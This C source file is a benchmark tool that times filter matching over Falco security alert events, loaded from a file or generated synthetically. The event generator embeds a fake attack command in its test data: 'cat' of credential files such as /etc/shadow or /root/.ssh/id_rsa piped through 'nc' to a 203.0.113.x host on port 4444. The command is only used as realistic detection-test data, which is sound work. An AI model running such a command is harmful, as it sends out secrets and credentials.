/*
 * filterbench — how fast a compiled filter re-filters held events.
 *
 *   filterbench [options] FILE EXPR...
 *   filterbench [options] --generate N [--write FILE] EXPR...
 *
 * Reads Falco JSON lines from FILE (or generates N realistic events), parses
 * every line with event_parse() and holds the events in memory, like the
 * console does. Then, for each EXPR, times filter_match() over all of them
 * and prints
 *
 *   EXPR <TAB> matches <TAB> milliseconds      (best of --runs, default 3)
 *
 * `make bench` compares these times with `grep -c` over the same file.
 * since: terms are evaluated relative to the newest event (plus one second),
 * so results do not depend on when the benchmark runs.
 *
 * Options: --runs N; --threads N (evaluate with N threads, each over its
 * share of the events: the multi-core figure); --prefetch D (prefetch the
 * event D places ahead, as a re-filter loop can: the events are scattered
 * over the heap, so memory latency, not the filter, bounds cheap terms);
 * --quiet (no stderr summary).
 */
#include "core/event.h"
#include "core/filter.h"
#include "core/parse.h"
#include "core/spool.h"
#include "core/util.h"

#include <getopt.h>
#include <inttypes.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

struct held {
	struct event **ev;
	size_t n, cap;
};

static void hold(struct held *h, const char *line, size_t len)
{
	if (h->n == h->cap)
		h->ev = xgrow(h->ev, &h->cap, h->n + 1, sizeof(*h->ev));
	h->ev[h->n++] = event_parse(line, len, NULL, 0);
}

static void load_file(struct held *h, const char *path)
{
	FILE *f = strcmp(path, "-") == 0 ? stdin : fopen(path, "r");
	if (!f)
		die(2, "cannot open %s", path);
	char *line = NULL;
	size_t cap = 0;
	ssize_t n;
	while ((n = getline(&line, &cap, f)) > 0)
		if (n > 1)
			hold(h, line, (size_t)n);
	free(line);
	if (f != stdin)
		fclose(f);
}

/* ---- a small generator of realistic events --------------------------------------- */

static uint64_t rng = 0x9E3779B97F4A7C15ull;

static uint64_t rnd(void)
{
	/* xorshift64*: deterministic, fast, good enough for shapes. */
	rng ^= rng >> 12;
	rng ^= rng << 25;
	rng ^= rng >> 27;
	return rng * 2685821657736338717ull;
}

static const char *pick(const char *const *a, size_t n)
{
	return a[rnd() % n];
}

#define PICK(a) pick(a, ARRAY_LEN(a))

static const struct {
	const char *rule, *prio, *tags, *what;
} rules[] = {
	{ "Terminal shell in container", "Notice", "\"T1059\",\"container\",\"mitre_execution\",\"shell\"",
	  "A shell was spawned in a container with an attached terminal" },
	{ "Read sensitive file untrusted", "Warning", "\"T1555\",\"filesystem\",\"mitre_credential_access\"",
	  "Sensitive file opened for reading by non-trusted program" },
	{ "Write below etc", "Error", "\"T1098\",\"filesystem\",\"mitre_persistence\"",
	  "File below /etc opened for writing" },
	{ "Contact K8S API Server From Container", "Notice", "\"T1565\",\"k8s\",\"mitre_discovery\",\"network\"",
	  "Unexpected connection to K8s API Server from container" },
	{ "Drop and execute new binary in container", "Critical", "\"T1610\",\"container\",\"mitre_persistence\"",
	  "Executing binary not part of base image" },
	{ "Launch Privileged Container", "Informational", "\"T1610\",\"container\",\"mitre_execution\"",
	  "Privileged container started" },
	{ "Clear Log Activities", "Warning", "\"T1070\",\"filesystem\",\"mitre_defense_evasion\"",
	  "Log files were tampered" },
	{ "Outbound Connection to C2 Servers", "Critical", "\"network\",\"mitre_command_and_control\"",
	  "Outbound connection to C2 server" },
	{ "Debug syscall trace", "Debug", "\"debug\"", "Traced syscall" },
	{ "Packet socket created in container", "Alert", "\"T1557.002\",\"network\",\"mitre_credential_access\"",
	  "Packet socket was created in a container" },
};

static const char *const procs[] = { "bash", "sh", "python3", "java", "nginx", "node", "curl",
				     "cat", "postgres", "redis-server", "ruby", "perl" };
static const char *const users[] = { "root", "www-data", "nobody", "app", "postgres", "<NA>" };
static const char *const images[] = { "docker.io/library/nginx", "docker.io/library/redis",
				      "quay.io/prometheus/prometheus", "ghcr.io/acme/payments",
				      "docker.io/library/postgres", "registry.k8s.io/pause" };
static const char *const files[] = { "/etc/shadow", "/etc/passwd", "/etc/sudoers", "/root/.ssh/id_rsa",
				     "/var/log/syslog", "/tmp/payload", "/dev/shm/x" };
static const char *const nss[] = { "default", "kube-system", "payments", "monitoring", "ingress-nginx",
				   "vault", "data" };

static void gen_event(struct sbuf *b, uint64_t i)
{
	size_t r = (size_t)(rnd() % ARRAY_LEN(rules));
	const char *proc = PICK(procs), *user = PICK(users), *ns = PICK(nss), *file = PICK(files);
	unsigned ctr = (unsigned)(rnd() % 2000), host = (unsigned)(rnd() % 40);
	const char *image = images[ctr % ARRAY_LEN(images)];
	unsigned long pid = 1000 + rnd() % 60000, tty = rnd() % 4 ? 0 : 34816 + rnd() % 8;
	int64_t t = 1767312000000000000LL + (int64_t)i * 1000000 + (int64_t)(rnd() % 1000000);
	time_t secs = (time_t)(t / 1000000000);
	struct tm tm;
	gmtime_r(&secs, &tm);
	char tod[32], iso[64];
	snprintf(tod, sizeof(tod), "%02d:%02d:%02d.%09d", tm.tm_hour, tm.tm_min, tm.tm_sec,
		 (int)(t % 1000000000));
	snprintf(iso, sizeof(iso), "%04d-%02d-%02dT%sZ", tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday, tod);
	char cname[32], cid[16], cmd[160];
	snprintf(cname, sizeof(cname), "%.12s-%u", strrchr(image, '/') + 1, ctr);
	snprintf(cid, sizeof(cid), "%012" PRIx64, (uint64_t)ctr * 2654435761u);
	snprintf(cmd, sizeof(cmd), "%s -c 'cat %s | nc 203.0.113.%u 4444'", proc, file, (unsigned)(rnd() % 250));
	sbuf_printf(b,
		    "{\"hostname\":\"node-%u.cluster.local\",\"output\":\"%s: %s %s (user=%s user_loginuid=-1 "
		    "process=%s file=%s command=%s container_id=%s container_name=%s image=%s k8s.ns=%s "
		    "terminal=%lu)\",\"output_fields\":{\"container.id\":\"%s\",\"container.image.repository\":\"%s\","
		    "\"container.name\":\"%s\",\"evt.time\":%" PRId64 ",\"fd.name\":\"%s\",\"k8s.ns.name\":\"%s\","
		    "\"k8s.pod.name\":\"%s-%x\",\"proc.cmdline\":\"%s\",\"proc.name\":\"%s\",\"proc.pid\":%lu,"
		    "\"proc.pname\":\"%s\",\"proc.aname[2]\":%s,\"proc.tty\":%lu,\"user.loginuid\":-1,"
		    "\"user.name\":\"%s\"},\"priority\":\"%s\",\"rule\":\"%s\",\"source\":\"syscall\","
		    "\"tags\":[%s],\"time\":\"%s\"}\n",
		    host, tod, rules[r].prio, rules[r].what, user, proc, file, cmd, cid, cname, image, ns, tty,
		    cid, image, cname, t, file, ns, cname, (unsigned)(rnd() & 0xfffff), cmd, proc, pid,
		    rnd() % 3 ? "containerd-shim" : "<NA>", rnd() % 2 ? "null" : "\"systemd\"", tty, user,
		    rules[r].prio, rules[r].rule, rules[r].tags, iso);
}

static void generate(struct held *h, uint64_t n, const char *write_path)
{
	FILE *w = NULL;
	if (write_path && !(w = fopen(write_path, "w")))
		die(2, "cannot write %s", write_path);
	struct sbuf b = SBUF_INIT;
	for (uint64_t i = 0; i < n; i++) {
		sbuf_reset(&b);
		gen_event(&b, i);
		if (w && fwrite(b.s, 1, b.len, w) != b.len)
			die(2, "write %s failed", write_path);
		hold(h, b.s, b.len);
	}
	sbuf_free(&b);
	if (w && fclose(w) != 0)
		die(2, "write %s failed", write_path);
}

/* ---- timing ------------------------------------------------------------------------ */

static size_t prefetch_dist;

struct slice {
	const struct filter *f;
	const struct filter_ctx *cx;
	struct event *const *ev;
	size_t n;
	size_t matches;
};

static void *run_slice(void *arg)
{
	struct slice *s = arg;
	size_t m = 0, d = prefetch_dist;
	for (size_t i = 0; i < s->n; i++) {
		if (d && i + d < s->n) {
			/* The header and the first output_fields entries. */
			__builtin_prefetch(s->ev[i + d]);
			__builtin_prefetch((const char *)s->ev[i + d] + 64);
			__builtin_prefetch((const char *)s->ev[i + d] + 128);
		}
		m += filter_match(s->f, s->ev[i], s->cx);
	}
	s->matches = m;
	return NULL;
}

/* One pass over every event; returns the number of matches. */
static size_t pass(const struct filter *f, const struct filter_ctx *cx, const struct held *h, int threads)
{
	struct slice s[64] = { 0 };
	pthread_t th[64];
	size_t per = (h->n + (size_t)threads - 1) / (size_t)threads, total = 0;
	for (int t = 0; t < threads; t++) {
		size_t from = MIN(h->n, (size_t)t * per), to = MIN(h->n, from + per);
		s[t] = (struct slice){ f, cx, h->ev + from, to - from, 0 };
		if (t && pthread_create(&th[t], NULL, run_slice, &s[t]) != 0)
			die(1, "pthread_create failed");
	}
	run_slice(&s[0]);
	for (int t = 0; t < threads; t++) {
		if (t)
			pthread_join(th[t], NULL);
		total += s[t].matches;
	}
	return total;
}

static void usage(void)
{
	fprintf(stderr, "usage: filterbench [--runs N] [--threads N] [--prefetch D] [--quiet] FILE EXPR...\n"
			"       filterbench [options] --generate N [--write FILE] EXPR...\n");
	exit(2);
}

int main(int argc, char **argv)
{
	static const struct option longopts[] = {
		{ "generate", required_argument, NULL, 'g' }, { "write", required_argument, NULL, 'w' },
		{ "runs", required_argument, NULL, 'r' },     { "threads", required_argument, NULL, 't' },
		{ "quiet", no_argument, NULL, 'q' },          { "prefetch", required_argument, NULL, 'p' },
		{ NULL, 0, NULL, 0 },
	};
	uint64_t gen = 0;
	const char *write_path = NULL;
	int runs = 3, threads = 1, c;
	bool quiet = false;
	while ((c = getopt_long(argc, argv, "", longopts, NULL)) != -1) {
		switch (c) {
		case 'g': gen = strtoull(optarg, NULL, 10); break;
		case 'w': write_path = optarg; break;
		case 'r': runs = atoi(optarg); break;
		case 't': threads = atoi(optarg); break;
		case 'q': quiet = true; break;
		case 'p': prefetch_dist = strtoul(optarg, NULL, 10); break;
		default: usage();
		}
	}
	if (runs < 1 || threads < 1 || threads > 64 || (!gen && optind >= argc))
		usage();
	parse_init();
	spool_init(NULL);

	struct held h = { 0 };
	int64_t t0 = mono_ns();
	if (gen)
		generate(&h, gen, write_path);
	else
		load_file(&h, argv[optind++]);
	int64_t newest = 0;
	for (size_t i = 0; i < h.n; i++)
		newest = MAX(newest, h.ev[i]->time_ns);
	struct filter_ctx cx = { .now_ns = newest + 1000000000 };
	if (!quiet) {
		size_t strs, bytes;
		intern_stats(&strs, &bytes);
		fprintf(stderr, "filterbench: %zu events held (parsed in %.1f s), %zu interned strings, %zu bytes\n",
			h.n, (double)(mono_ns() - t0) / 1e9, strs, bytes);
	}

	int rc = 0;
	for (int a = optind; a < argc; a++) {
		char *err = NULL;
		size_t pos = 0;
		struct filter *f = filter_compile(argv[a], &err, &pos);
		if (!f) {
			fprintf(stderr, "filterbench: %s: %s\n", argv[a], err);
			free(err);
			rc = 1;
			continue;
		}
		int64_t best = INT64_MAX;
		size_t m = 0;
		for (int r = 0; r < runs; r++) {
			int64_t s = mono_ns();
			m = pass(f, &cx, &h, threads);
			best = MIN(best, mono_ns() - s);
		}
		printf("%s\t%zu\t%.1f\n", argv[a], m, (double)best / 1e6);
		fflush(stdout);
		filter_free(f);
	}
	for (size_t i = 0; i < h.n; i++)
		event_free(h.ev[i]);
	free(h.ev);
	spool_shutdown();
	return rc;
}
